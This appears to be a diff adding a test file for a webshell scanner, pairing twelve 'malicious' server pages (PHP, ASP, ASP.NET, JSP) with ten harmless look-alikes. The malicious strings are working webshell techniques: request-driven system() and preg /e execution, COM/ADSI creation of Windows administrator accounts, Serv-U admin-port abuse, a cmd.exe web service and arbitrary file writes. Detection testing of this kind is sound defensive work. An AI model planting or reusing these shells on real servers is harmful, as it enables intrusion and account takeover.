@@ -1,0 +1,58 @@
+import { describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import { createScanner } from './scanner.js';
+
+// Session 34: the techniques of the real webshells the held-out sets H1 to H4 missed at their first scan
+// (bench/redteam/README-corpus-s34.md), written again by us as harmless pages, each with look-alikes an
+// application may hold. Nothing here is copied from a sample.
+const scanner = createScanner({});
+const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
+
+// (the reversed page of the own-decoder form: a line of ours, written backwards)
+const reversed = [...`Response.Write "a page kept backwards by its author" : x = ${'"abcdefghij" & '.repeat(24)}"end"`].reverse().join('');
+
+const MALICIOUS: [string, string, string][] = [
+  ['a variable function called through a braced bare name, ${c}(...)', '/var/www/html/a.php', `<?php $k = 'sys' . 'tem'; \${k}($_POST['q']); ?>`],
+  ['preg_filter with the /e modifier and the replacement from the request', '/var/www/html/b.php', `<?php @preg_filter('#.+#e', $_REQUEST['r'], 'x'); ?>`],
+  ['preg_filter with the /e modifier, the replacement a variable given the request', '/var/www/html/b2.php', `<?php $r = $_POST['r']; echo preg_filter('~^~e', $r, 'start'); ?>`],
+  ['Windows accounts made through COM Shell.Users and made administrators', '/var/www/html/c.php', `<?php\n$users = new COM("Shell.Users");\n$u = $users->create("helpdesk2");\n$u->changePassword("Secret-1", "");\n$u->setting["AccountType"] = 3;\necho "done";\n`],
+  ['ADSI WinNT:// making a user and adding it to Administrators', '/var/www/html/c2.php', `<?php\n$pc = new COM("WinNT://.");\n$user = $pc->Create("user", "helpdesk3");\n$user->SetPassword("Secret-2");\n$user->SetInfo();\n$g = new COM("WinNT://./Administrators,group");\n$g->Add("WinNT://helpdesk3");\n`],
+  ['classic ASP executing characters picked by number out of a string', '/inetpub/wwwroot/d.asp', `<%\nFunction p(n) : p = Mid(t, n, 1) : End Function\nt = "qrstuvwxyz "\nExecute(p(3) & p(4) & p(5) & p(3) & p(4) & p(5) & p(11))\n%>`],
+  ['classic ASP executing what its own function makes of a long reversed literal', '/inetpub/wwwroot/e.asp', `<%\nsrc = "${reversed.replace(/"/g, '""')}"\nExecute(Flip(src))\nFunction Flip(s)\nDim i, r\nFor i = 1 To Len(s)\nr = Mid(s, i, 1) & r\nNext\nFlip = r\nEnd Function\n%>`],
+  ['a page driving Serv-U\'s local administration port', '/inetpub/wwwroot/f.asp', `<%\nSet h = Server.CreateObject("Microsoft.XMLHTTP")\nh.open "POST", "http://127.0.0.1:" & Request("port") & "/", False\nh.send "USER LocalAdministrator" & vbCrLf & "PASS " & Request("pw") & vbCrLf & "SITE MAINTENANCE" & vbCrLf & "-SETUSERSETUP" & vbCrLf & "-User=tmp1" & vbCrLf & "QUIT" & vbCrLf\n%>`],
+  ['a few lines of ASP.NET that are a database client of the request', '/inetpub/wwwroot/g.aspx', `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<%\nstring cs = Request.QueryString["c"];\nstring q = Request.QueryString["q"];\nusing (var db = new SqlConnection(cs)) { db.Open(); var cmd = new SqlCommand(q, db); var rd = cmd.ExecuteReader(); while (rd.Read()) Response.Write(rd[0] + "\\n"); }\n%>`],
+  ['an ASP.NET web service (.soap) whose methods run programs and manage files', '/inetpub/wwwroot/h.soap', `<%@ WebService Language="C#" Class="Svc" %>\nusing System; using System.IO; using System.Diagnostics; using System.Web.Services;\npublic class Svc : WebService {\n  [WebMethod] public string Run(string a, string b) {\n    if (a == "L") return string.Join(",", Directory.GetLogicalDrives());\n    if (a == "D") { File.Delete(b); return "ok"; }\n    if (a == "W") { File.WriteAllText(b, "x"); return "ok"; }\n    var p = new ProcessStartInfo("cmd.exe", "/c " + b) { RedirectStandardOutput = true, UseShellExecute = false };\n    return Process.Start(p).StandardOutput.ReadToEnd();\n  }\n}\n`],
+  ['JSP writing the request\'s text to the request\'s path with RandomAccessFile, in one statement', '/var/lib/tomcat/webapps/ROOT/i.jsp', `<%new java.io.RandomAccessFile(application.getRealPath("/") + request.getParameter("n"), "rw").write(request.getParameter("t").getBytes());%>`],
+  ['VB.NET saving an upload where the request says, its strings in typographic quotes', '/inetpub/wwwroot/j.aspx', `<% If Request.Files.Count > 0 Then Request.Files(0).SaveAs(Server.MapPath(Request(\u201cn\u201d))) %>`],
+];
+
+const LOOKALIKES: [string, string, string][] = [
+  ['a template printing ${name}(s) in a string', '/var/www/html/k.php', `<?php $name = 'file'; $count = 2; echo "You have \${count} \${name}(s) waiting"; ?>`],
+  ['preg_filter without /e, on an array of the request', '/var/www/html/l.php', `<?php $ids = preg_filter('/^(\\d+)$/', 'id-$1', (array) $_GET['ids']); echo implode(',', $ids); ?>`],
+  ['a Windows worker started through COM WScript.Shell with a fixed command', '/var/www/html/m.php', `<?php\n$sh = new COM("WScript.Shell");\n$sh->Run("php C:\\\\app\\\\queue-worker.php", 0, false);\necho "queued";\n`],
+  ['an ASP page writing characters picked by number (no Execute)', '/inetpub/wwwroot/n.asp', `<%\nFunction p(n) : p = Mid(t, n, 1) : End Function\nt = "HELLO WORLD"\nResponse.Write p(1) & p(2) & p(3) & p(4) & p(5) & p(6) & p(7)\n%>`],
+  ['an ASP page reversing a long literal for display, executing a fixed line', '/inetpub/wwwroot/o.asp', `<%\nsrc = "${reversed.replace(/"/g, '""')}"\nResponse.Write Flip(src)\nExecute("Session(""seen"") = True")\nFunction Flip(s)\nDim i, r\nFor i = 1 To Len(s)\nr = Mid(s, i, 1) & r\nNext\nFlip = r\nEnd Function\n%>`],
+  ['an FTP help page naming one Serv-U command', '/var/www/html/p.php', `<?php echo "<p>Serv-U administrators may use SITE MAINTENANCE from their FTP client to change settings.</p>"; ?>`],
+  ['an ASP.NET report page with a fixed connection string and a query by id', '/inetpub/wwwroot/q.aspx', `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<%\nstring id = Request.QueryString["id"];\nusing (var db = new SqlConnection(System.Configuration.ConfigurationManager.ConnectionStrings["main"].ConnectionString)) { db.Open(); var cmd = new SqlCommand("select name from items where id = @id", db); cmd.Parameters.AddWithValue("@id", id); Response.Write(cmd.ExecuteScalar()); }\n%>`],
+  ['an ASMX service starting a fixed program, touching no files', '/inetpub/wwwroot/r.asmx', `<%@ WebService Language="C#" Class="Jobs" %>\nusing System.Diagnostics; using System.Web.Services;\npublic class Jobs : WebService {\n  [WebMethod] public int Reindex() { var p = Process.Start("C:\\\\tools\\\\reindex.exe"); p.WaitForExit(); return p.ExitCode; }\n}\n`],
+  ['JSP reading the tail of a fixed log with RandomAccessFile', '/var/lib/tomcat/webapps/ROOT/s.jsp', `<%java.io.RandomAccessFile f = new java.io.RandomAccessFile("/var/log/app/app.log", "r"); f.seek(Math.max(0, f.length() - 4096)); out.print(f.readLine()); f.close();%>`],
+  ['a C# page with typographic quotes in its text', '/inetpub/wwwroot/t.aspx', `<%@ Page Language="C#" %>\n<% string tip = "Press \u201cSave\u201d to keep it"; Response.Write(Server.HtmlEncode(tip)); Request.Files[0].SaveAs(Server.MapPath("~/App_Data/" + Guid.NewGuid())); %>`],
+];
+
+describe('scan: the techniques of held-out sets H1 to H4 (session 34)', () => {
+  for (const [name, path, src] of MALICIOUS) {
+    it(`malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
+    });
+  }
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 12));
+
+  for (const [name, path, src] of LOOKALIKES) {
+    it(`not malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
+    });
+  }
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 10));
+});
